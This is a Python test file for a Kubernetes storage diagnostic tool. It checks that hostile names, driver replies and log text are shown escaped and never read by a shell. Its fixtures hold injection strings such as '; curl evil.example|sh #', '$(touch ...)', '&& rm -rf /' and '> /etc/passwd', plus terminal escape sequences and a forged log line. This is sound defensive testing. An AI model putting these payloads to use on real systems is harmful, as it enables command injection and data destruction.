"""Text from objects, drivers and files against the terminal and the shell of the operator who reads it."""

import ast
import asyncio
import io
import json
import logging
import os
import pty
import random
import re
import shlex
import subprocess
import sys
from contextlib import redirect_stdout
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import grpc
import msgspec
import pytest

from moorage import log
from moorage.cli import show
from moorage.csi import csi_pb2, csi_pb2_grpc
from moorage.csi.pending import WAITING
from moorage.insight.causes import REGISTRY, Finding
from moorage.insight.cluster_view import ClusterView
from moorage.insight.explain import story_of
from moorage.insight.log_records import read_records
from moorage.kube.api.client import Client
from moorage.kube.api.config import from_values
from moorage.kube.objects import (
    CSIDriver,
    CSINode,
    Event,
    Lease,
    Node,
    PersistentVolume,
    PersistentVolumeClaim,
    Pod,
    StorageClass,
    VolumeAttachment,
    VolumeSnapshot,
    VolumeSnapshotClass,
    VolumeSnapshotContent,
)
from moorage.printable import many_lines, one_line
from moorage.testing.server import serve

SOURCE = Path(log.__file__).parent
EVIL = (
    "\x1b]0;owned\x07\x1b[2J\x1b[31mfake\x1b[0m\r\n12:00:00.000 INFO csi.server: call method=Forged code=OK seconds=1\n"
    "\x9b31m \u202egnp.exe\u202c \u200b\u2028 [bold]x[/bold] [link=http://evil.example]y[/link] \x7f\x00"
)
ALLOWED = re.compile(r"\x1b\[(\d+m|K)")  # our own colours, and clearing our own line


def is_harmless(shown: str) -> bool:
    """Whether a terminal would only print the text: lines of printable characters, and our own colours."""
    return all(line.isprintable() for line in ALLOWED.sub("", shown).replace("\r", "").split("\n"))


# --- every cause, with hostile names everywhere -----------------------------------------------------------------------

SHAPES = (
    "{}; curl evil.example|sh #",
    "$(touch {})",
    "`{}`",
    "--all={}",
    "-{}",
    "{}' \"; reboot '",
    "{}\n\x1b]0;owned\x07 && rm -rf /",
    "{} > /etc/passwd",
    "'{}",
    "\\{}\\",
)
MESSAGES = (
    "as the script says",
    'failed to provision volume with StorageClass "x": rpc error: code = ResourceExhausted desc = full',
    "CreateVolume: OUT_OF_RANGE: too large",
    "CreateVolume: INVALID_ARGUMENT: unknown parameter",
    "CreateVolume: DEADLINE_EXCEEDED: no answer",
    "ControllerExpandVolume: FAILED_PRECONDITION: offline expansion only",
    "the driver lacks the capability to clone",
    "no volume plugin matched",
    "exceeded quota: pvcs",
    'secret "b" not found',
    'configmap "b" not found',
    "fsck found errors",
    "mkfs failed",
    "volume x holds xfs and not ext4",
    "bad option: invalid argument",
    "0/2 nodes are available: 2 node(s) didn't find available persistent volumes to bind",
)
REASONS = (
    "ProvisioningFailed",
    "FailedMount",
    "FailedScheduling",
    "FailedBinding",
    "VolumeMismatch",
    "VolumeResizeFailed",
    "VolumeModifyFailed",
    "VolumeFailedDelete",
    "SnapshotDeleteError",
    "FailedAttachVolume",
    "Provisioning",
)


class Chaos:
    """Makes clusters in random states, in which every name and every text is hostile."""

    def __init__(self, seed: int) -> None:
        self.random = random.Random(seed)
        self.values: set[str] = set()
        self.view = ClusterView()
        self.count = 0
        self.nodes = ["nowhere"]

    def pick(self, *choices: Any) -> Any:
        return self.random.choice(choices)

    def name(self, tag: str) -> str:
        self.count += 1
        value = self.pick(*SHAPES).format(f"{tag}{self.count}")
        self.values.add(value)
        return value

    def meta(self, name: str, namespace: str = "", finalizers: tuple[str, ...] = (), **more: Any) -> dict[str, Any]:
        self.count += 1
        meta = {"name": name, "namespace": namespace, "uid": f"uid-{self.count}", **more}
        if self.pick(True, False):
            meta["finalizers"] = self.random.sample(finalizers, self.random.randint(0, len(finalizers)))
            meta["deletionTimestamp"] = self.pick(None, "2026-01-01T00:00:00Z")
        events = [
            {"type": self.pick("Warning", "Normal"), "reason": self.pick(*REASONS), "message": self.pick(*MESSAGES)}
            for _ in range(self.pick(0, 1, 4, 8))
        ]
        if self.random.random() < 0.1:
            events = [self.waiting(meta["uid"])]
        self.view.events[meta["uid"]] = [msgspec.convert(event, Event) for event in events]
        return meta

    def waiting(self, uid: str) -> dict[str, Any]:
        """What the caller of a driver says while it waits."""
        began, now = (datetime.fromtimestamp(self.view.now - ago, UTC).isoformat() for ago in (70, 5))
        return {
            "type": "Normal",
            "reason": WAITING,
            "message": f"NodeStageVolume has been waiting for driver $(reboot) since {began}",
            "lastTimestamp": now,
            "source": {"component": "kubelet", "host": self.pick(*self.nodes)},
            "involvedObject": {"uid": uid},
        }

    def put(self, place: dict[str, Any], kind: Any, body: dict[str, Any]) -> Any:
        made = msgspec.convert(body, kind)
        place[made.key] = made
        return made

    def cluster(self) -> ClusterView:
        """One cluster: a few objects of each kind, which refer to each other or to nothing."""
        self.view = view = ClusterView()
        pick, name = self.pick, self.name
        namespace, driver, other = name("ns"), name("driver"), name("other")
        self.nodes = nodes = [name("node") for _ in range(2)]
        for node in nodes:
            self._node(node, pick(driver, other), pick(None, 0, 1))
        if pick(True, False):
            modes = pick(["Persistent"], ["Ephemeral"])
            spec = {"attachRequired": pick(True, False), "volumeLifecycleModes": modes, "fsGroupPolicy": "None"}
            self.put(view.drivers, CSIDriver, {"metadata": {"name": driver}, "spec": spec})
        secret = (name("secretns"), name("secret"))
        view.asked_secrets["/".join(secret)] = False
        classes = [self._class(pick(driver, other, "kubernetes.io/no-provisioner"), *secret) for _ in range(pick(0, 2))]
        classes.append(name("noclass"))
        claims, volumes = [name("claim") for _ in range(3)], [name("pv") for _ in range(3)]
        for volume in volumes[:-1]:
            self._volume(volume, driver, namespace, pick(*claims, name("gone")), nodes, pick(*classes))
        snapshots = [name("snap") for _ in range(2)]
        for claim in claims[:-1]:
            source = self._source(pick(*snapshots, name("nosnap")), pick(*claims, name("noclaim")))
            self._claim(claim, namespace, pick(*volumes, ""), pick(*classes, "", None), source, driver)
        for _ in range(2):
            self._pod(
                namespace, pick(*claims, claims[0], name("noclaim")), pick(*nodes, "", "", name("nonode")), driver
            )
            self._attachment(pick(*volumes), pick(*nodes, name("nonode")), driver)
        contents = [name("content") for _ in range(2)]
        chosen = [name("snapclass") for _ in range(2)]
        self.put(view.snapshot_classes, VolumeSnapshotClass, {"metadata": {"name": chosen[0]}, "driver": other})
        self._content(contents[0], driver)
        self._snapshot(snapshots[0], namespace, pick(*claims, None), pick(*contents, None), pick(*chosen, None))
        for prefix in ("", "external-attacher-leader-", "external-resizer-", "external-snapshotter-leader-"):
            if pick(True, False, False):
                self._lease(re.sub(r"[^A-Za-z0-9-]", "-", f"{prefix}{driver}"), name("leasens"))
        return view

    def _lease(self, lease: str, namespace: str) -> None:
        spec = {"holderIdentity": "h", "leaseDurationSeconds": 15, "renewTime": "2020-01-01T00:00:00Z"}
        lease = lease + "X" if lease.endswith("-") else lease
        self.values.add(lease)
        self.put(self.view.leases, Lease, {"metadata": {"name": lease, "namespace": namespace}, "spec": spec})

    def _node(self, node: str, driver: str, count: int | None) -> None:
        taints = self.pick([], [], [{"key": "node.kubernetes.io/out-of-service", "effect": "NoExecute"}])
        used = [f"kubernetes.io/csi/{driver}^handle"]
        status = {"conditions": [{"type": "Ready", "status": self.pick("True", "False")}], "volumesInUse": used}
        spec = {"unschedulable": self.pick(False, True), "taints": taints}
        self.put(
            self.view.nodes,
            Node,
            {"metadata": self.meta(node, labels={"kubernetes.io/hostname": node}), "spec": spec, "status": status},
        )
        entry = {"name": driver, "allocatable": {"count": count}}
        drivers = self.pick([entry], [entry], [])
        self.put(self.view.node_drivers, CSINode, {"metadata": {"name": node}, "spec": {"drivers": drivers}})

    def _class(self, provisioner: str, namespace: str, secret: str) -> str:
        made = self.name("class")
        notes = self.pick({}, {"storageclass.kubernetes.io/is-default-class": "true"})
        key = "csi.storage.k8s.io/provisioner-secret"
        body = {
            "metadata": {"name": made, "annotations": notes},
            "provisioner": provisioner,
            "parameters": self.pick({}, {f"{key}-name": secret, f"{key}-namespace": namespace}),
            "volumeBindingMode": self.pick("Immediate", "WaitForFirstConsumer"),
            "allowVolumeExpansion": self.pick(True, False),
            "allowedTopologies": self.pick([], [], [], [{"matchLabelExpressions": [self.topology()]}]),
        }
        self.put(self.view.classes, StorageClass, body)
        return made

    def topology(self) -> dict[str, Any]:
        """Places that all nodes have, one has, or none has."""
        key = self.pick("kubernetes.io/hostname", self.name("label"))
        return {"key": key, "values": [self.pick(*self.nodes, "nowhere")]}

    def _volume(self, volume: str, driver: str, namespace: str, claim: str, nodes: list[str], cls: str) -> None:
        finalizers = ("kubernetes.io/pv-protection", "external-provisioner.volume.kubernetes.io/finalizer")
        place = {"key": "kubernetes.io/hostname", "operator": "In", "values": [self.pick(*nodes, "nowhere")]}
        spec = {
            "capacity": {"storage": "1Gi"},
            "accessModes": self.pick(["ReadWriteOnce"], ["ReadWriteMany"]),
            "persistentVolumeReclaimPolicy": self.pick("Delete", "Retain"),
            "csi": {"driver": driver, "volumeHandle": "handle"},
            "mountOptions": ["noatime"],
            "storageClassName": cls,
        }
        if self.pick(True, False):
            spec["claimRef"] = {"namespace": namespace, "name": claim, "uid": self.pick("", "u")}
        if self.pick(True, False):
            spec["nodeAffinity"] = {"required": {"nodeSelectorTerms": [{"matchExpressions": [place]}]}}
        status = {"phase": self.pick("Available", "Bound", "Released", "Failed")}
        meta = self.meta(volume, finalizers=finalizers)
        self.put(self.view.volumes, PersistentVolume, {"metadata": meta, "spec": spec, "status": status})

    def _source(self, snapshot: str, claim: str) -> dict[str, Any] | None:
        kinds = (("VolumeSnapshot", snapshot), ("PersistentVolumeClaim", claim), (self.name("Kind"), self.name("any")))
        kind, name = self.pick(*kinds)
        return self.pick(None, {"kind": kind, "name": name})

    def _claim(self, claim: str, namespace: str, volume: str, cls: Any, source: Any, driver: str) -> None:
        pick = self.pick
        modifier = pick(None, None, self.name("vac"))
        spec = {
            "accessModes": pick(["ReadWriteOnce"], ["ReadWriteOncePod"]),
            "resources": {"requests": {"storage": pick("1Gi", "2Gi")}},
            "volumeName": volume,
            "dataSourceRef": source,
            "volumeAttributesClassName": modifier,
        }
        if cls is not None:
            spec["storageClassName"] = cls
        notes = pick({}, {"volume.kubernetes.io/storage-provisioner": driver})
        if pick(True, False):
            notes = {**notes, "volume.kubernetes.io/selected-node": self.name("node")}
        states = pick({}, {"storage": "ControllerResizeInfeasible"}, {"storage": "ControllerResizeInProgress"})
        status: dict[str, Any] = {
            "phase": pick("Pending", "Pending", "Bound", "Bound", "Lost"),
            "capacity": {"storage": "1Gi"},
            "conditions": pick([], [{"type": "FileSystemResizePending", "status": "True"}]),
            "allocatedResourceStatuses": states,
        }
        if modifier and pick(True, False):
            status["modifyVolumeStatus"] = {"status": "Infeasible", "targetVolumeAttributesClassName": modifier}
        finalizers = ("kubernetes.io/pvc-protection", "provisioner.storage.kubernetes.io/cloning-protection")
        meta = self.meta(claim, namespace, finalizers, annotations=notes)
        self.put(self.view.claims, PersistentVolumeClaim, {"metadata": meta, "spec": spec, "status": status})

    def _pod(self, namespace: str, claim: str, node: str, driver: str) -> None:
        pick, pod = self.pick, self.name("pod")
        volume = pick(
            {"name": "v", "persistentVolumeClaim": {"claimName": claim}},
            {"name": "v", "persistentVolumeClaim": {"claimName": claim}},
            {"name": self.name("vol"), "ephemeral": {}},
            {"name": self.name("vol"), "csi": {"driver": driver}},
        )
        if "ephemeral" in volume and pick(True, False):
            self._claim(f"{pod}-{volume['name']}", namespace, "", None, None, driver)
            self.values.add(f"{pod}-{volume['name']}")
        reasons = pick("ErrImagePull", "CreateContainerError", "CrashLoopBackOff", "")
        container = {"name": self.name("container"), "state": {"waiting": {"reason": reasons}} if reasons else {}}
        container["lastState"] = pick({}, {"terminated": {"exitCode": 1}})
        words = (
            "max volume count",
            "volume node affinity conflict",
            "not enough free storage",
            MESSAGES[-1],
            "something else",
        )
        condition = {"type": "PodScheduled", "status": "False", "message": pick(*words)}
        spec = {"nodeName": node, "volumes": [volume], "securityContext": pick(None, {"fsGroup": 5})}
        phase = pick("Pending", "Pending", "Pending", "Running", "Failed")
        status = {"phase": phase, "conditions": pick([], [condition]), "containerStatuses": [container]}
        meta = self.meta(pod, namespace, ("x/finalizer",))
        if pick(True, False):
            told = {"type": "Warning", "reason": "FailedMount", "message": pick(*MESSAGES)}
            self.view.events[meta["uid"]].insert(0, msgspec.convert(told, Event))
        self.put(self.view.pods, Pod, {"metadata": meta, "spec": spec, "status": status})

    def _attachment(self, volume: str, node: str, driver: str) -> None:
        status: dict[str, Any] = {"attached": self.pick(True, False)}
        status[self.pick("attachError", "detachError", "other")] = {"message": "as the script says"}
        spec = {"attacher": driver, "nodeName": node, "source": {"persistentVolumeName": volume}}
        meta = self.meta(self.name("va"), finalizers=("external-attacher/x",))
        self.put(self.view.attachments, VolumeAttachment, {"metadata": meta, "spec": spec, "status": status})

    def _content(self, content: str, driver: str) -> None:
        status = self.pick(
            {"snapshotHandle": "h"}, {"error": {"message": "as the script says"}}, {"snapshotHandle": ""}
        )
        body = {"metadata": self.meta(content), "spec": {"driver": driver, "source": {}}, "status": status}
        self.put(self.view.contents, VolumeSnapshotContent, body)

    def _snapshot(self, snapshot: str, namespace: str, claim: Any, content: Any, cls: Any) -> None:
        source = {"persistentVolumeClaimName": claim}
        if self.pick(True, False):
            source = {"volumeSnapshotContentName": content}
        status = self.pick(None, {"boundVolumeSnapshotContentName": content, "readyToUse": self.pick(True, False)})
        if status is not None:
            status["restoreSize"] = self.pick("1Gi", "4Gi")
        meta = self.meta(snapshot, namespace, ("snapshot.storage.kubernetes.io/x",))
        spec = {"source": source, "volumeSnapshotClassName": cls}
        self.put(self.view.snapshots, VolumeSnapshot, {"metadata": meta, "spec": spec, "status": status})


def found_in(view: ClusterView) -> list[tuple[str, Finding]]:
    """What each cause says of each object, whatever a cause before it would have said."""
    places = (view.claims, view.pods, view.volumes, view.attachments, view.snapshots, view.nodes)
    objects = [one for place in places for one in place.values()]
    tried = [(cause, one) for one in objects for cause in REGISTRY if cause.about is type(one)]
    found = []
    for cause, one in tried:
        try:
            finding = cause.test(view, one)
        except IndexError:  # it relies on a cause that is tried before it
            continue
        if finding is not None:
            found.append((cause.id, finding))
    return found


def check_command(text: str, values: set[str]) -> None:
    """Each hostile value is exactly one word, is no option, and nothing outside quotes means anything to a shell."""
    bare = re.sub(r"'[^']*'|\"'\"", "", text)
    assert re.fullmatch(r"[\w@%+=:,./…\- |>]*", bare), text
    for operator, after in re.findall(r"([|>]+) (\S+)", bare):
        assert (operator, after) in {("|", "grep"), (">", "volume.yaml"), (">", "claim.yaml")}, text
    words = shlex.split(text)
    for at, word in enumerate(words):
        inside = [value for value in values if value in word]
        if not inside and not re.search(r"curl|touch|reboot|owned|passwd|--all|[$`;\\]", word):
            continue
        if word.startswith("{"):
            json.loads(word)
            continue
        value = re.sub(r"^(--namespace=|--label-columns=|spec\.nodeName=|(pvc|pod|pv|va|snapshot|node)/)", "", word)
        assert value in values, (word, text)
        is_option_like = word.startswith("-") and not word.startswith(("--namespace=", "--label-columns="))
        assert (
            not is_option_like or "--" in words[:at] or words[at - 1] == "-c" or words[0] not in ("kubectl", "moorage")
        )


def test_no_name_in_any_suggested_command_is_more_than_one_word():
    chaos, unseen = Chaos(seed=1), {cause.id for cause in REGISTRY}
    for turn in range(3000):
        if turn >= 300 and not unseen:
            break
        chaos.values = set()
        view = chaos.cluster()
        for ident, finding in found_in(view):
            unseen.discard(ident)
            for text in (finding.next_step, *(later.command for later in finding.then)):
                check_command(text, chaos.values)
        for one in (*view.claims.values(), *view.pods.values(), *view.volumes.values()):
            check_command(story_of(view, one).next_step, chaos.values)
    assert unseen == set()


def is_destructive(text: str) -> bool:
    words = shlex.split(text)
    if words[:1] != ["kubectl"]:
        return False
    verb = words[3] if words[1] == "-n" else words[2] if words[1].startswith("--namespace=") else words[1]
    return verb in ("delete", "drain", "replace") or (verb == "taint" and not words[-1].endswith("-"))


def test_a_step_that_ends_or_destroys_something_is_never_the_first_and_says_so():
    chaos = Chaos(seed=2)
    for _ in range(300):
        for ident, finding in found_in(chaos.cluster()):
            assert not is_destructive(finding.next_step), ident
            for later in finding.then:
                assert bool(later.harm) == is_destructive(later.command), ident


@pytest.mark.parametrize("kind", ["claims", "volumes"])
def test_what_is_being_deleted_is_never_well(kind):
    chaos = Chaos(seed=3)
    for _ in range(300):
        view = chaos.cluster()
        for one in getattr(view, kind).values():
            story = story_of(view, one)
            assert story.stuck or not one.is_deleting
            assert "nothing is wrong" not in story.sentence or not one.is_deleting


# --- the door ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", [EVIL, "a\udc80b", "x" * 1_000_000, "\U000e0041tag", "a\tb", "\u2066x\u2069"])
def test_a_line_is_one_line_and_printable(text):
    shown = one_line(text)
    assert shown.isprintable()
    assert len(shown) < 7 * 2100  # an escape takes six characters
    assert is_harmless(many_lines(text))


def test_text_is_escaped_and_not_interpreted(capsys):
    show.say(EVIL, ("bold", EVIL), style="red")
    show.paragraph(EVIL)
    show.command(EVIL)
    show.columns(("A", "B"), [(EVIL, "x"), ("y", EVIL)])
    shown = capsys.readouterr().out
    assert is_harmless(shown)
    assert len(shown.splitlines()) == 6
    assert "[bold]x[/bold] [link=http://evil.example]y[/link]" in shown  # shown as it is, not as markup
    assert "\\u001b]0;owned" in shown


def test_json_is_exact_and_harmless():
    value = {EVIL: [EVIL, "\u00a0\u3000é漢"]}
    for compact in (True, False):
        with redirect_stdout(io.StringIO()) as written:
            show.json_out(value, compact)
        assert json.loads(written.getvalue()) == value
        assert is_harmless(written.getvalue())


def test_a_file_name_that_is_no_unicode_is_shown():
    with redirect_stdout(io.StringIO()) as written:
        show.json_out({"path": Path("/a\udc80")})
        show.say("/a\udc80")
    document, _, line = written.getvalue().rpartition("}\n")
    assert json.loads(document + "}") == {"path": "/a\udc80"}
    assert line == "/a\\udc80\n"


DOOR = {"cli/show.py", "log.py"}
BESIDE_THE_DOOR = {
    "cli/apiserver.py": "its own addresses and paths, before a cluster exists",
    "plugin/__main__.py": "an error at its start, as one line",
    "sdk/command.py": "an error at the start of a driver, as one line",
}


def test_nothing_but_the_door_writes_to_a_terminal():
    found = set()
    for path in SOURCE.rglob("*.py"):
        place = path.relative_to(SOURCE).as_posix()
        if place not in DOOR and any(_writes(node) for node in ast.walk(ast.parse(path.read_text()))):
            found.add(place)
    assert found - set(BESIDE_THE_DOOR) == set()


def _writes(node: ast.AST) -> bool:
    if not isinstance(node, ast.Call):
        return isinstance(node, ast.ImportFrom) and (node.module or "").partition(".")[0] == "rich"
    called = ast.unparse(node.func)
    return called in ("print", "typer.echo", "typer.secho", "click.echo", "sys.stdout.write", "sys.stderr.write")


# --- logs -------------------------------------------------------------------------------------------------------------


def logged(style: str) -> str:
    """What a logger writes for hostile fields, messages and exceptions."""
    stream = io.StringIO()
    before = logging.getLogger().handlers[:]
    try:
        log.configure("info", style, stream)
        logger = log.get_logger("moorage.csi.server")
        logger.info("call", method="CreateVolume", error=EVIL, plain="v-1")
        logging.getLogger("other.library").warning("said %s", EVIL)
        try:
            raise ValueError(EVIL)
        except ValueError:
            logger.exception("unexpected", volume="x\x1b[31m")
    finally:
        logging.getLogger().handlers[:] = before
    return stream.getvalue()


def test_log_lines_are_harmless_and_cannot_be_forged(tmp_path):
    text = logged("text")
    assert is_harmless(text)
    (tmp_path / "driver.log").write_text(text)
    records = read_records(tmp_path, ["call", "said", "unexpected", "Forged"])
    by_event = {record.event.partition(" ")[0]: record for record in records}
    assert len(records) == 3
    assert by_event.keys() == {"call", "said", "unexpected"}
    assert by_event["call"].fields == {"method": "CreateVolume", "error": EVIL, "plain": "v-1"}


def test_json_logs_are_exact_and_one_record_a_line():
    text = logged("json")
    assert is_harmless(text)
    first, _, third = map(json.loads, text.splitlines())
    assert (first["error"], third["volume"]) == (EVIL, "x\x1b[31m")


def test_a_huge_field_does_not_fill_the_log():
    stream = io.StringIO()
    record = logging.LogRecord("moorage.x", logging.INFO, "", 0, "event", (), None)
    record.moorage_fields = {"error": "y" * 1_000_000}
    stream.write(log.TextFormat().format(record))
    assert len(stream.getvalue()) < 10_000


# --- commands on a terminal -------------------------------------------------------------------------------------------


def on_terminal(*words: str, **environment: str) -> str:
    """What a command writes to a terminal of 80 columns."""
    leader, follower = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "moorage.cli.main", *words],
        stdin=follower,
        stdout=follower,
        stderr=follower,
        env={**os.environ, "COLUMNS": "80", "TERM": "xterm-256color", **environment},
    )
    os.close(follower)
    shown = b""
    while True:
        try:
            part = os.read(leader, 65536)
        except OSError:  # the command has ended
            break
        shown += part
    os.close(leader)
    process.wait(60)
    return shown.decode()


async def hostile_cluster(client: Client) -> None:
    """Objects of a tenant: every text that an API server takes without a rule holds an attack."""
    spec = {
        "accessModes": ["ReadWriteOnce"],
        "resources": {"requests": {"storage": "1Gi"}},
        "storageClassName": "none",
        "volumeName": "--all; curl evil.example|sh #\x1b]0;owned\x07",
    }
    claim = await client.create(PersistentVolumeClaim, {"metadata": {"name": "data"}, "spec": spec}, "default")
    about = {"kind": "PersistentVolumeClaim", "namespace": "default", "name": "data", "uid": claim.uid}
    event = {
        "metadata": {"name": "data.1"},
        "involvedObject": about,
        "type": "Warning",
        "reason": "ProvisioningFailed",
        "message": EVIL,
        "source": {"component": "[red]x\x1b[5m"},
        "lastTimestamp": "2026-01-01T00:00:00Z",
    }
    await client.create(Event, event, "default")


async def test_explain_and_trace_of_hostile_objects(tmp_path):
    async with (
        serve(tmp_path / "api") as server,
        Client(from_values(server.insecure_url, server.token), identity="test") as client,
    ):
        await hostile_cluster(client)
        for words in (("explain",), ("explain", "pvc/data"), ("trace", "pvc/data"), ("explain", "pvc/a\x1b[5mb")):
            shown = await asyncio.to_thread(on_terminal, *words, "--kubeconfig", str(server.kubeconfig))
            assert is_harmless(shown), words
            assert shown.strip()
            assert "Traceback" not in shown
        shown = await asyncio.to_thread(on_terminal, "explain", "pvc/data", "--kubeconfig", str(server.kubeconfig))
        step = ALLOWED.sub("", shown.partition("Next step:")[2]).split("\r\n")[1].strip()
        assert step == "kubectl get pv"  # the name that the claim asks for is in no command


class HostileDriver(csi_pb2_grpc.IdentityServicer, csi_pb2_grpc.ControllerServicer):
    """Answers with escape sequences, in names and in errors."""

    async def GetPluginInfo(self, request, context):
        return csi_pb2.GetPluginInfoResponse(name=EVIL, vendor_version=EVIL)

    async def GetPluginCapabilities(self, request, context):
        await context.abort(grpc.StatusCode.INTERNAL, EVIL)

    async def Probe(self, request, context):
        return csi_pb2.ProbeResponse()


async def test_csi_and_check_of_a_hostile_driver(tmp_path):
    server = grpc.aio.server()
    driver = HostileDriver()  # type: ignore[abstract]  # the other calls answer UNIMPLEMENTED
    csi_pb2_grpc.add_IdentityServicer_to_server(driver, server)
    endpoint = f"unix://{tmp_path}/csi.sock"
    server.add_insecure_port(endpoint)
    await server.start()
    try:
        shown = await asyncio.to_thread(on_terminal, "csi", "GetPluginInfo", "--endpoint", endpoint)
        assert is_harmless(shown)
        assert json.loads(shown)["name"] == EVIL
        for words in (("csi", "GetPluginCapabilities"), ("check",)):
            shown = await asyncio.to_thread(on_terminal, *words, "--endpoint", endpoint)
            assert is_harmless(shown)
            assert "fake" in shown
    finally:
        await server.stop(None)


def test_volumes_with_hostile_names(tmp_path):
    name = "pay\u202egnp.exe $(touch x) [bold]"
    pool = ("volume", "--pool", str(tmp_path / "pool"))
    shown = on_terminal(*pool, "create", name, "--size", "16Mi", "--new-pool")
    shown += on_terminal(*pool, "list") + on_terminal(*pool, "inspect", name) + on_terminal(*pool, "check")
    assert "\\u202e" in shown
    shown += on_terminal(*pool, "import", str(tmp_path / "no\x1b]0;owned\x07such"))
    shown += on_terminal(*pool, "inspect", "no\x1b[5m\u202esuch")
    shown += on_terminal(*pool, "export", name, "/no\x1b[5m/where")
    removed = on_terminal(*pool, "remove", name)
    bars = re.compile(r"\x1b\[(\?25[lh]|2K|1A|0m|3\d(;[\d;]+)?m)")  # the progress bar of an export
    assert is_harmless(bars.sub("", shown + removed))
    suggested = re.search(r"`(undelete .*)`", removed)
    assert suggested is not None
    assert len(shlex.split(suggested[1])) == 2
